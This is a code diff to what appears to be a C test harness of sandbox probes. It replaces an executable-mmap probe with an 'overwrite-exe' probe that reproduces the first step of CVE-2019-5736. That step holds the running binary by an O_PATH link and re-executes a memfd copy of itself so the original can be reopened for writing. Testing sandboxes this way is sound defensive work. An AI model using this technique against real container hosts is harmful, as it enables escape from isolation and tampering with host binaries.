@@ -4,7 +4,6 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
-#include <sys/mman.h>
 #include <sys/prctl.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -86,15 +85,6 @@ static int exec_copy(int argc, char** argv) {
   return attempt_exec((struct Attempt){-1, argv + 1});
 }
 
-// What the dynamic loader does with a program: no exec, but code all the same.
-static int map_code(int argc, char** argv) {
-  if (argc != 1) return PROBE_USAGE;
-  int fd = open(argv[0], O_RDONLY);
-  if (fd < 0) return errno;
-  void* code = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
-  return code == MAP_FAILED ? errno : 0;
-}
-
 // Writes a program to `path` with the given mode, so that a set-id copy can be tried.
 static int plant_program(int argc, char** argv) {
   if (argc != 3) return PROBE_USAGE;
@@ -105,7 +95,24 @@ static int plant_program(int argc, char** argv) {
   return answer(fchmod(fd, (mode_t)strtol(argv[2], NULL, 8)));
 }
 
+// CVE-2019-5736: hold the running program by its link, become another program, and open the first
+// one for writing, now that it does not run any more. The second program is a nameless copy of this
+// one.
+static int overwrite_exe(int argc, char** argv) {
+  if (argc != 1) return PROBE_USAGE;
+  int held = open(argv[0], O_PATH);
+  if (held < 0) return errno;
+  int copy = (int)syscall(SYS_memfd_create, "unnamed", 0u);
+  int error = copy < 0 ? errno : copy_into("/proc/self/exe", copy);
+  if (error) return error;
+  char number[16], name[] = "reopen";
+  snprintf(number, sizeof number, "%d", held);
+  char* words[] = {name, name, number, NULL};
+  syscall(SYS_execveat, copy, "", words, environ, AT_EMPTY_PATH);
+  return errno;
+}
+
 const struct Probe exec_probes[] = {
     {"exec", exec_path, "PATH [words…]"},           {"exec-memfd", exec_memfd, "PATH [words…]"},
-    {"exec-copy", exec_copy, "PATH COPY [words…]"}, {"map-code", map_code, "PATH"},
+    {"exec-copy", exec_copy, "PATH COPY [words…]"}, {"overwrite-exe", overwrite_exe, "LINK"},
     {"plant", plant_program, "PATH COPY OCTAL"},    {NULL, NULL, NULL}};
